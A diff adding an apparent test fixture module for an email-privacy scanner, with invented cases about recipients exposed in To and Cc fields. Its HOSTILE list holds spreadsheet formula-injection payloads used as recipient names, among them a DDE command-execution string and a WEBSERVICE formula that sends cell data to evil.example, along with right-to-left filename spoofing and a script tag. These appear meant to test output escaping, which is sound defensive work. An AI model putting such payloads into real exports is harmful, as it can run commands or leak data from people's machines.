@@ -1,0 +1,299 @@
+"""An invented case: a mail to 271 people, a small one with hostile names, and a reading with gaps."""
+
+from __future__ import annotations
+
+import hashlib
+from collections.abc import Iterator
+from dataclasses import dataclass, replace
+from datetime import UTC, date, datetime, timedelta, timezone
+
+from scanner.address import Address, Field, Recipient
+from scanner.case import Outcome, Run
+from scanner.coverage import ChosenBy, Coverage
+from scanner.defect import Defect
+from scanner.envelope import Envelope, Locator, Mark, Unparsed, Unreadable
+from scanner.exposure import Affected, Exposure, Identifiable, Standing, Viewer
+from scanner.incident import Incident
+from scanner.policy import Ground, InternalDomain, Policy
+
+FORMULA_OPENERS = (
+    "=1+1",
+    "=cmd|' /C calc'!A0",
+    '=HYPERLINK("https://evil.example/","click")',
+    '=WEBSERVICE("https://evil.example/"&A1)',
+    "==1",
+    "+1+1",
+    "+A1",
+    "-1+1",
+    "-2+3+cmd|' /C calc'!A0",
+    "@SUM(1,1)",
+    "@A1",
+    "\t=1+1",
+    "\r=1+1",
+    "\n=1+1",
+    "＝1+1",
+    "＋1+1",
+    "－1+1",
+    "＠SUM(1,1)",
+    "|calc",
+    "%0A=1+1",
+    " =1+1",
+    "'=1+1",
+    '"=1+1"',
+    ";=1+1",
+    "{=1+1}",
+)
+HOSTILE = (
+    *FORMULA_OPENERS,
+    "#REF!",
+    "#N/A",
+    "TRUE",
+    "007",
+    "1E400",
+    "2020-01-01",
+    "bell \x07 null \x00 escape \x1b[31m",
+    "lone \ud800 surrogate \udfff",
+    "right-to-left \u202egnp.exe\u202c and \u2066isolate\u2069 and mark \u200f",
+    "next line \x85 separator \u2028 noncharacter \ufffe\uffff",
+    "_x000D_ and _x0041_ written out",
+    "<script>alert(1)</script> & ]]> \"quotes\" 'more'",
+    "  spaces at both ends  ",
+    "Zoë Ångström 李小龍 עברית فارسی 👩‍👩‍👧",
+    "long " + "n" * 40_000,
+    "😀" * 20_000,
+)
+OURS = "handset.example"
+
+
+@dataclass(frozen=True)
+class ExampleCase:
+    """A case made of lists; it satisfies `scanner.case.Case`."""
+
+    policy: Policy
+    held_incidents: tuple[Incident, ...] = ()
+    held_coverage: tuple[Coverage, ...] = ()
+    held_unreadable: tuple[Unreadable, ...] = ()
+    held_runs: tuple[Run, ...] = ()
+    held_below: int = 0
+
+    def incidents(self) -> Iterator[Incident]:
+        return iter(self.held_incidents)
+
+    def below_gate(self) -> int:
+        return self.held_below
+
+    def coverage(self) -> Iterator[Coverage]:
+        return iter(self.held_coverage)
+
+    def unreadable(self) -> Iterator[Unreadable]:
+        return iter(self.held_unreadable)
+
+    def runs(self) -> Iterator[Run]:
+        return iter(self.held_runs)
+
+
+def person(number: int, *, readers: int = 280, name: str | None = None) -> Affected:
+    """The affected person with this number; every third is a consumer, every ninth a role account."""
+    free_mail, role = number % 3 != 0, number % 9 == 0
+    domain = "freemail.example" if free_mail else f"company{number % 40}.example"
+    address = f"{'info' if role else 'first.last'}{number}@{domain}"
+    shown_name = f"First{number} Last{number}" if name is None else name
+    return Affected(
+        address=address,
+        names=(shown_name,) if shown_name and not role else (),
+        fields=(Field.TO,) if number % 5 else (Field.TO, Field.CC),
+        party=address if free_mail else domain,
+        free_mail=free_mail,
+        role=role,
+        identifiable=Identifiable.NO if role else (Identifiable.CLEAR if number % 2 else Identifiable.PART),
+        seen_by_outsiders=readers - 10,
+        seen_by_insiders=9,
+        seen_by_hidden=1,
+    )
+
+
+def envelope(people: tuple[Affected, ...], locator: Locator, subject: str, sent: datetime | None) -> Envelope:
+    """A message that shows these people in the fields that they name."""
+    recipients = []
+    for each in people:
+        local_part, _, domain = (each.address or "").rpartition("@")
+        address = Address(local_part, domain) if each.address else None
+        name = each.names[0] if each.names else ""
+        recipients += [Recipient(address, name, field) for field in each.fields]
+    return Envelope(
+        locator=locator,
+        message_id=f"{locator.key}.{len(people)}@mail.{OURS}",
+        in_reply_to=(),
+        references=(),
+        date=sent,
+        author=Address("research", OURS),
+        author_name="User research",
+        sender=None,
+        subject=subject,
+        recipients=tuple(recipients),
+        digest=hashlib.sha256(subject.encode("utf-8", "surrogatepass")).hexdigest(),
+        size=18_231,
+        received=sent + timedelta(seconds=2) if sent else None,
+        marks=frozenset({Mark.SENT}),
+    )
+
+
+def incident(number: int, people: tuple[Affected, ...], message: Envelope, copies: int = 1) -> Incident:
+    """One message with these people; one insider and one Bcc reader saw it too."""
+    viewers = (
+        *(
+            Viewer(each.address or each.party, each.names[0] if each.names else "", each.fields[0], Standing.OUTSIDER)
+            for each in people
+        ),
+        Viewer(f"team@{OURS}", "The team", Field.CC, Standing.INTERNAL),
+        Viewer("observer@partner.example", "Observer", Field.BCC, Standing.AFFILIATE),
+    )
+    counted = sum(not each.role for each in people)
+    parties = len({each.party for each in people})
+    reasons = (
+        f"{len(people)} outsiders of {parties} different parties stood in To and Cc, visible to one another.",
+        f"{sum(each.free_mail for each in people)} of them use a free-mail address.",
+        "The message lay in a folder of sent mail.",
+    )
+    exposure = Exposure("visible-outsiders", f"m{number}", message, people, viewers, parties, counted, True, reasons)
+    places = tuple(replace(message.locator, folder=f"Copies/{i}") for i in range(1, copies))
+    return Incident(f"INC-{number:08x}", (exposure,), (message.locator, *places), people, viewers, reasons)
+
+
+def policy(ground: Ground = Ground.PROPOSED) -> Policy:
+    """Two internal domains, the second for some years only."""
+    return Policy(
+        internal=(
+            InternalDomain(OURS, ground=ground),
+            InternalDomain("handset-labs.example", date(2015, 1, 1), date(2022, 12, 31), Ground.CONFIGURED),
+        ),
+        own_addresses=("founder@freemail.example",),
+        affiliates=("partner.example",),
+        free_mail_add=("freemail.example",),
+    )
+
+
+def run(number: int = 1, outcome: Outcome | None = Outcome.COMPLETE, troubles: tuple[str, ...] = ()) -> Run:
+    """A run of four minutes in November 2026."""
+    started = datetime(2026, 11, 14, 8, 0, 1, tzinfo=UTC) + timedelta(days=7 * (number - 1))
+    return Run(
+        id=number,
+        started=started,
+        finished=started + timedelta(minutes=4, seconds=13) if outcome else None,
+        version="0.1.0",
+        policy=policy(),
+        rules=("visible-outsiders",),
+        sources=("research", "press office"),
+        outcome=outcome,
+        troubles=troubles,
+    )
+
+
+def hostile_incident() -> Incident:
+    """A small message whose recipients' names attack spreadsheets and readers."""
+    people = tuple(person(1_000 + i, readers=45, name=name) for i, name in enumerate(HOSTILE))
+    nameless = replace(people[0], address=None, names=("Only A Name",), party="only a name")
+    message = envelope(people, Locator("press office", "Sent", "=1+1"), '=HYPERLINK("https://evil.example/")', None)
+    broken = replace(
+        message,
+        message_id=None,
+        unparsed=(Unparsed(Field.TO, "someone at nowhere; @@"), Unparsed(Field.CC, "=2+5 \u202e")),
+        defects=(Defect.NO_MESSAGE_ID, Defect.NO_DATE, Defect.UNPARSED_TEXT),
+    )
+    return incident(3, (*people, nameless), broken)
+
+
+def full_case() -> ExampleCase:
+    """Three incidents, found in mail that was not all readable."""
+    paris = timezone(timedelta(hours=2))
+    many = tuple(person(i) for i in range(271))
+    few = tuple(person(i, readers=24) for i in range(300, 314))
+    survey = envelope(
+        many,
+        Locator("research", "Sent Items", "1593612000:4711"),
+        "Invitation to our user study",
+        datetime(2020, 7, 21, 16, 3, 25, tzinfo=paris),
+    )
+    lunch = envelope(
+        few,
+        Locator("press office", "Gesendete Elemente", "77:12"),
+        "Press lunch on Thursday: directions and menu",
+        datetime(2023, 3, 2, 9, 30, tzinfo=UTC),
+    )
+    unreadable = tuple(
+        Unreadable(
+            Locator("press office", "Sent", f"77:{900 + i}"),
+            "The server announced the message and did not deliver it.",
+        )
+        for i in range(12)
+    )
+    coverage = (
+        Coverage("press office", "Archive/2019", ChosenBy.NOT_SENT, None),
+        Coverage(
+            "press office",
+            "Gesendete Elemente",
+            ChosenBy.NAME,
+            4_120,
+            4_118,
+            0,
+            (("it vanished while we read", 2),),
+            datetime(2017, 1, 3, 8, tzinfo=UTC),
+            datetime(2026, 11, 20, 17, tzinfo=UTC),
+            finished=True,
+        ),
+        Coverage(
+            "press office",
+            "Sent",
+            ChosenBy.SPECIAL_USE,
+            1_000,
+            700,
+            12,
+            (),
+            datetime(2021, 1, 3, 8, tzinfo=UTC),
+            datetime(2024, 5, 20, 17, tzinfo=UTC),
+            trouble="The connection to mail.handset.example broke and could not be opened again.",
+        ),
+        Coverage("research", "Drafts", ChosenBy.NOT_SENT, None),
+        Coverage(
+            "research",
+            "Sent Items",
+            ChosenBy.SPECIAL_USE,
+            15_301,
+            15_301,
+            0,
+            (),
+            datetime(2014, 5, 1, 8, tzinfo=UTC),
+            datetime(2026, 11, 20, 17, tzinfo=UTC),
+            finished=True,
+        ),
+    )
+    trouble = "The account “press office” was interrupted: the connection broke and could not be opened again."
+    return ExampleCase(
+        policy(),
+        (incident(1, many, survey, copies=3), hostile_incident(), incident(2, few, lunch)),
+        coverage,
+        unreadable,
+        (run(1, Outcome.STOPPED), run(2, Outcome.INCOMPLETE, (trouble,))),
+        held_below=37,
+    )
+
+
+def clean_case() -> ExampleCase:
+    """Everything was read and nothing was found."""
+    folder = Coverage(
+        "research",
+        "Sent Items",
+        ChosenBy.SPECIAL_USE,
+        15_301,
+        15_301,
+        oldest=datetime(2014, 5, 1, 8, tzinfo=UTC),
+        newest=datetime(2026, 11, 20, 17, tzinfo=UTC),
+        finished=True,
+    )
+    return ExampleCase(policy(Ground.CONFIGURED), (), (folder,), (), (run(),))
+
+
+def failed_case() -> ExampleCase:
+    """The only account refused the login, so nothing was read."""
+    trouble = "The server mail.handset.example refused the login for the account “research”."
+    return ExampleCase(Policy(), held_runs=(run(1, Outcome.FAILED, (trouble,)),))
